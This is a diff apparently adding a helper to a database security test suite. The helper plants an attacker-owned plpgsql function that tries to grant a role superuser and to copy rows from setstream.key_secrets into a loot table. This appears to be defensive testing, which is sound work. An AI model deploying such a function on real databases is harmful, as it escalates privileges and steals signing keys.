@@ -114,3 +114,28 @@ def grant_rights(admin, role, stream, rights):
         for r in rights:
             for g in _OLD_GRANTS[r]:
                 admin.execute(g.format(role=role))
+
+
+def plant_function(conn, signature, returns, role, result, loot=None):
+    """Create, as the attacker, a plpgsql function that tries to make
+    `role` a superuser and, when `loot` (a table (who, secret)) is given, to
+    copy setstream.key_secrets into it (recording who it ran as when it
+    cannot); it then returns `result`."""
+    steal = ""
+    if loot:
+        steal = """
+            BEGIN
+                INSERT INTO %(t)s SELECT current_user, k.jwk FROM setstream.key_secrets k;
+            EXCEPTION WHEN others THEN
+                INSERT INTO %(t)s VALUES (current_user, NULL);
+            END;""" % {"t": loot}
+    conn.execute("""
+        CREATE FUNCTION %(sig)s RETURNS %(ret)s LANGUAGE plpgsql AS $f$
+        BEGIN
+            BEGIN
+                EXECUTE 'ALTER ROLE %(r)s SUPERUSER';
+            EXCEPTION WHEN others THEN NULL;
+            END;%(steal)s
+            RETURN %(res)s;
+        END $f$""" % {"sig": signature, "ret": returns, "r": role, "steal": steal,
+                      "res": result})
